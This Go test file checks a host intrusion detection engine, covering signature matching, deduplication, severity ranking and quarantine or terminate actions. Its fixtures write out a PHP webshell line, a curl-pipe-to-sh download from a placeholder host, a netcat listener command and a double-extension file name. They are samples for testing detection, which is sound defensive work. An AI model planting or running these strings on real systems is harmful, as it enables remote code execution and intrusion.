package detect

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/hostsentry/hostsentry/internal/monitor"
	"github.com/hostsentry/hostsentry/internal/signature"
)

func newTestEngine(t *testing.T, window time.Duration) *Engine {
	t.Helper()
	sigs, err := signature.Load(nil)
	require.NoError(t, err)
	return NewEngine(sigs, Options{DedupWindow: window})
}

func fileCandidate(path string) monitor.Candidate {
	return monitor.Candidate{
		Kind:       monitor.KindFile,
		Component:  "file-monitor",
		Target:     path,
		Change:     monitor.ChangeCreated,
		ObservedAt: time.Now(),
	}
}

func TestEvaluateFileContentMatch(t *testing.T) {
	e := newTestEngine(t, time.Minute)
	ctx := context.Background()

	path := filepath.Join(t.TempDir(), "upload.php")
	require.NoError(t, os.WriteFile(path, []byte(`<?php eval(base64_decode($_POST["c"])); ?>`), 0644))

	inc := e.Evaluate(ctx, fileCandidate(path))
	require.NotNil(t, inc)
	assert.Equal(t, signature.SeverityCritical, inc.Level)
	assert.Equal(t, "quarantine", inc.ActionTaken)
	assert.Contains(t, inc.RuleIDs, "SIG-001")
	assert.Equal(t, path, inc.Target)
	assert.Equal(t, "file-monitor", inc.Component)
	assert.NotEmpty(t, inc.SystemInfo.Hostname)
}

func TestEvaluateCleanFileNoIncident(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	path := filepath.Join(t.TempDir(), "notes.txt")
	require.NoError(t, os.WriteFile(path, []byte("meeting at noon"), 0644))

	assert.Nil(t, e.Evaluate(context.Background(), fileCandidate(path)))
}

func TestEvaluateDedupSuppressesRepeat(t *testing.T) {
	e := newTestEngine(t, time.Minute)
	ctx := context.Background()

	path := filepath.Join(t.TempDir(), "shell.php")
	require.NoError(t, os.WriteFile(path, []byte(`eval(base64_decode("x"))`), 0644))

	first := e.Evaluate(ctx, fileCandidate(path))
	require.NotNil(t, first)

	second := e.Evaluate(ctx, fileCandidate(path))
	assert.Nil(t, second, "identical detection inside the window must be suppressed")
}

func TestEvaluateDedupExpires(t *testing.T) {
	e := newTestEngine(t, 30*time.Millisecond)
	ctx := context.Background()

	path := filepath.Join(t.TempDir(), "shell.php")
	require.NoError(t, os.WriteFile(path, []byte(`eval(base64_decode("x"))`), 0644))

	require.NotNil(t, e.Evaluate(ctx, fileCandidate(path)))
	time.Sleep(50 * time.Millisecond)
	assert.NotNil(t, e.Evaluate(ctx, fileCandidate(path)), "detection must re-fire after the window expires")
}

func TestEvaluateHighestSeverityWinsMultiRule(t *testing.T) {
	e := newTestEngine(t, time.Minute)
	ctx := context.Background()

	// Medium curl-pipe rule plus critical webshell rule in one file.
	path := filepath.Join(t.TempDir(), "dropper.sh")
	content := "curl http://x.example/payload | sh\neval(base64_decode($p))\n"
	require.NoError(t, os.WriteFile(path, []byte(content), 0644))

	inc := e.Evaluate(ctx, fileCandidate(path))
	require.NotNil(t, inc)
	assert.Equal(t, signature.SeverityCritical, inc.Level)
	assert.Contains(t, inc.RuleIDs, "SIG-001")
	assert.Contains(t, inc.RuleIDs, "SIG-004")
	assert.GreaterOrEqual(t, len(inc.RuleIDs), 2)
	assert.IsIncreasing(t, inc.RuleIDs)
}

func TestEvaluateFileDenyGlob(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	path := filepath.Join(t.TempDir(), "invoice.php.jpg")
	require.NoError(t, os.WriteFile(path, []byte("harmless bytes"), 0644))

	inc := e.Evaluate(context.Background(), fileCandidate(path))
	require.NotNil(t, inc)
	assert.Contains(t, inc.RuleIDs, "deny-file")
	assert.Equal(t, signature.SeverityHigh, inc.Level)
	assert.Equal(t, "quarantine", inc.ActionTaken)
}

func TestEvaluateDeletedFileSkipsContent(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	c := fileCandidate("/nonexistent/gone.php.jpg")
	c.Change = monitor.ChangeDeleted

	// Deny glob still applies to the path; no content read is attempted.
	inc := e.Evaluate(context.Background(), c)
	require.NotNil(t, inc)
	assert.Contains(t, inc.RuleIDs, "deny-file")
}

func TestEvaluateProcessSignatureAndDeny(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	inc := e.Evaluate(context.Background(), monitor.Candidate{
		Kind:       monitor.KindProcess,
		Component:  "process-monitor",
		Target:     "nc",
		PID:        4321,
		Cmdline:    "nc -lvp 9001",
		User:       "www-data",
		ObservedAt: time.Now(),
	})
	require.NotNil(t, inc)
	assert.Contains(t, inc.RuleIDs, "SIG-006")
	assert.Contains(t, inc.RuleIDs, "deny-process")
	assert.Equal(t, "terminate", inc.ActionTaken)
	assert.Equal(t, 4321, inc.SystemInfo.PID)
	assert.Equal(t, "www-data", inc.SystemInfo.User)
}

func TestEvaluateNetworkFallsBackToMonitorReason(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	inc := e.Evaluate(context.Background(), monitor.Candidate{
		Kind:       monitor.KindNetwork,
		Component:  "network-monitor",
		Target:     "10.0.0.5:8443",
		LocalAddr:  "10.0.0.2:51000",
		RemoteAddr: "10.0.0.5:8443",
		Port:       8443,
		Reason:     "listener on suspicious port 8443",
		ObservedAt: time.Now(),
	})
	require.NotNil(t, inc)
	assert.Equal(t, []string{"net-observe"}, inc.RuleIDs)
	assert.Equal(t, signature.SeverityMedium, inc.Level)
	assert.Equal(t, "10.0.0.5:8443", inc.NetworkInfo["remote_addr"])
}

func TestEvaluateNetworkSignatureMatch(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	inc := e.Evaluate(context.Background(), monitor.Candidate{
		Kind:       monitor.KindNetwork,
		Component:  "network-monitor",
		Target:     "203.0.113.9:4444",
		Port:       4444,
		ObservedAt: time.Now(),
	})
	require.NotNil(t, inc)
	assert.Contains(t, inc.RuleIDs, "SIG-009")
	assert.Equal(t, "block", inc.ActionTaken)
}

func TestEvaluateMemoryThreshold(t *testing.T) {
	e := newTestEngine(t, time.Minute)

	inc := e.Evaluate(context.Background(), monitor.Candidate{
		Kind:       monitor.KindMemory,
		Component:  "memory-monitor",
		Target:     "cpu",
		Metric:     "cpu",
		Percent:    97.2,
		Reason:     "cpu usage 97.2% over threshold 90.0% for 2 samples",
		ObservedAt: time.Now(),
	})
	require.NotNil(t, inc)
	assert.Equal(t, []string{"resource-threshold"}, inc.RuleIDs)
	assert.Equal(t, "log", inc.ActionTaken)
}
